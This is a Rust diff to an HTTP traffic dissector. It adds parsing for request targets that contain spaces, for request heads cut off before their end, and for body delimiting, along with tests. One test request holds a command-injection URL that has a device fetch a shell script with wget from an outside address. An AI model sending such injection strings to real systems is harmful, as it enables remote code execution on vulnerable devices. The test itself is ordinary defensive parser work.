@@ -85,6 +85,34 @@ pub fn could_start_request(stream: &[u8]) -> bool {
 
 /// Reads a request from the first bytes of a client stream.
 pub fn read_request(stream: &[u8]) -> Head {
+    read_head(stream, false)
+}
+
+/// Reads a request head that ends without its blank line (the capture or
+/// the flow stopped): a request line and at least one complete header line
+/// decide, and the head is read as far as its last complete line.
+pub fn read_cut_request(stream: &[u8]) -> Option<HttpRequest> {
+    match read_head(stream, true) {
+        Head::Request(r) => Some(r),
+        _ => None,
+    }
+}
+
+/// The request line's target and version: the method's space, then the
+/// version after the line's last space; everything between is the target,
+/// spaces included (`GET /a b HTTP/1.1` asks for `/a b`, as servers read it).
+fn split_request_line(line: &[u8], sp: usize) -> Option<(&[u8], &[u8])> {
+    let line = line.strip_suffix(b"\r").unwrap_or(line);
+    let last = line.iter().rposition(|&b| b == b' ')?;
+    if last <= sp {
+        return None;
+    }
+    let target = trim(&line[sp + 1..last]);
+    let version = &line[last + 1..];
+    (version.starts_with(b"HTTP/1.") && !target.is_empty()).then_some((target, version))
+}
+
+fn read_head(stream: &[u8], cut: bool) -> Head {
     let Some(sp) = method_end(stream) else {
         return if could_start_request(stream) {
             Head::NeedMore
@@ -100,21 +128,28 @@ pub fn read_request(stream: &[u8]) -> Head {
             Head::NeedMore
         };
     };
-    let line = &stream[..line_end];
-    let mut parts = line.splitn(3, |&b| b == b' ');
-    let (_, Some(target), Some(version)) = (parts.next(), parts.next(), parts.next()) else {
+    let Some((target, version)) = split_request_line(&stream[..line_end], sp) else {
         return Head::No;
     };
-    let version = version.strip_suffix(b"\r").unwrap_or(version);
-    if !version.starts_with(b"HTTP/1.") || target.is_empty() {
-        return Head::No;
-    }
     let head_end = find(stream, b"\r\n\r\n")
         .map(|e| e + 4)
         .or_else(|| find(stream, b"\n\n").map(|e| e + 2));
     let head = match head_end {
         Some(e) => &stream[..e],
         None if stream.len() >= MAX_HEAD => &stream[..MAX_HEAD],
+        None if cut => {
+            // Complete lines only, and at least one header line after
+            // the request line.
+            let end = stream
+                .iter()
+                .rposition(|&b| b == b'\n')
+                .map_or(0, |e| e + 1);
+            let head = &stream[..end];
+            if !head[line_end..].split(|&b| b == b'\n').any(is_header_line) {
+                return Head::No;
+            }
+            head
+        }
         None => return Head::NeedMore,
     };
     let mut req = HttpRequest {
@@ -170,6 +205,50 @@ pub fn is_response(stream: &[u8]) -> Option<bool> {
     )
 }
 
+/// How the body after a complete request head is delimited.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Body {
+    /// `Content-Length` bytes (0 without one, as a request without either
+    /// header has no body).
+    Length(u64),
+    /// `Transfer-Encoding: chunked`, or a length that does not parse.
+    Unknown,
+}
+
+/// The end of the request head at the start of `stream` (after its blank
+/// line) and how its body is delimited; `None` while the head is not
+/// complete.
+pub fn head_extent(stream: &[u8]) -> Option<(usize, Body)> {
+    let end = find(stream, b"\r\n\r\n")
+        .map(|e| e + 4)
+        .or_else(|| find(stream, b"\n\n").map(|e| e + 2))?;
+    let mut body = Body::Length(0);
+    for raw in stream[..end].split(|&b| b == b'\n').skip(1) {
+        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
+        let Some(colon) = raw.iter().position(|&b| b == b':') else {
+            continue;
+        };
+        let (name, value) = (&raw[..colon], trim(&raw[colon + 1..]));
+        if name.eq_ignore_ascii_case(b"transfer-encoding") {
+            return Some((end, Body::Unknown));
+        }
+        if name.eq_ignore_ascii_case(b"content-length") {
+            body = std::str::from_utf8(value)
+                .ok()
+                .and_then(|v| v.parse().ok())
+                .map_or(Body::Unknown, Body::Length);
+        }
+    }
+    Some((end, body))
+}
+
+/// `name: value`, the name a token (no spaces, no controls).
+fn is_header_line(line: &[u8]) -> bool {
+    line.iter()
+        .position(|&b| b == b':')
+        .is_some_and(|c| c > 0 && line[..c].iter().all(|&b| b.is_ascii_graphic()))
+}
+
 fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
     hay.windows(needle.len()).position(|w| w == needle)
 }
@@ -220,6 +299,9 @@ pub struct HttpDissector {
     status: SideReader,
     /// After a WebSocket upgrade request: its answer and first frame.
     websocket: Option<Box<websocket::Watch>>,
+    /// The last packet that brought request bytes, and the packet the
+    /// client stream started at (for a head cut off, see [`Self::settle`]).
+    request_packets: (u64, u64),
 }
 
 impl Dissector for HttpDissector {
@@ -272,6 +354,7 @@ impl Dissector for HttpDissector {
         let mut step = Step::NeedMore;
         if let SideReader::Reading(buf) = reader {
             if input.from_client() {
+                self.request_packets = (input.packet, input.client_from.unwrap_or(input.packet));
                 buf.extend_from_slice(
                     &bytes[..bytes.len().min(MAX_HEAD.saturating_sub(buf.len()))],
                 );
@@ -347,6 +430,33 @@ impl Dissector for HttpDissector {
         }
         step
     }
+
+    /// The flow ends (or is given up) with a request head still open: a
+    /// request line and at least one complete header line decide HTTP, the
+    /// head read as far as it goes.
+    fn settle(&self) -> Option<Verdict> {
+        let SideReader::Reading(buf) = &self.request else {
+            return None;
+        };
+        let r = read_cut_request(buf)?;
+        let (packet, from) = self.request_packets;
+        Some(Verdict {
+            proto: AppProto::Http,
+            confidence: Confidence::Medium,
+            found: Findings {
+                facts: vec![Fact::Http(Box::new(r))],
+                evidence: vec![Evidence {
+                    packet,
+                    what: Clue::HttpRequestCut {
+                        len: buf.len(),
+                        from,
+                    },
+                }],
+                links: Vec::new(),
+            },
+            more: false,
+        })
+    }
 }
 
 #[cfg(test)]
@@ -407,6 +517,56 @@ mod tests {
         assert_eq!(is_response(b"HTTP/1."), None);
         assert_eq!(is_response(b"HTTP/2 200 OK\r\n"), Some(false));
         assert_eq!(is_response(b"\x16\x03\x03"), Some(false));
+    }
+
+    #[test]
+    fn target_with_spaces_is_everything_between_method_and_version() {
+        let Head::Request(r) = read_request(
+            b"GET /shell?cd+/tmp;wget+ http://198.51.100.7/x.sh HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n",
+        ) else {
+            panic!()
+        };
+        assert_eq!(r.url, "/shell?cd+/tmp;wget+ http://198.51.100.7/x.sh");
+        assert_eq!(r.version, "HTTP/1.1");
+        assert_eq!(r.hostname.as_deref(), Some("203.0.113.9"));
+        assert_eq!(read_request(b"GET HTTP/1.1\r\n\r\n"), Head::No);
+        assert_eq!(read_request(b"GET /a b c\r\n\r\n"), Head::No);
+    }
+
+    #[test]
+    fn cut_head_needs_a_request_line_and_a_header() {
+        let cut = b"GET /a HTTP/1.1\r\nHost: Cut.Example\r\nUser-Agent: par";
+        assert_eq!(read_request(cut), Head::NeedMore);
+        let r = read_cut_request(cut).unwrap();
+        assert_eq!(r.hostname.as_deref(), Some("cut.example"));
+        assert_eq!(r.user_agent, None, "an incomplete line is not read");
+        assert_eq!(read_cut_request(b"GET /a HTTP/1.1\r\nHost: x"), None);
+        assert_eq!(read_cut_request(b"GET /a HTTP/1.1\r\n"), None);
+        assert_eq!(
+            read_cut_request(b"GET /a HTTP/1.1\r\nno colon here\r\n"),
+            None
+        );
+        let mut d = HttpDissector::start();
+        let input = Input {
+            bytes: cut,
+            side: TO_SERVER,
+            packet: 7,
+            first: true,
+            client_from: Some(7),
+            ts: 0,
+            links: &[],
+            ports: [40000, 80],
+        };
+        assert_eq!(d.feed(&input), Step::NeedMore);
+        let v = d.settle().unwrap();
+        assert_eq!(
+            (v.proto, v.confidence),
+            (AppProto::Http, Confidence::Medium)
+        );
+        assert!(matches!(
+            v.found.evidence[0].what,
+            Clue::HttpRequestCut { len: 51, from: 7 }
+        ));
     }
 
     #[test]
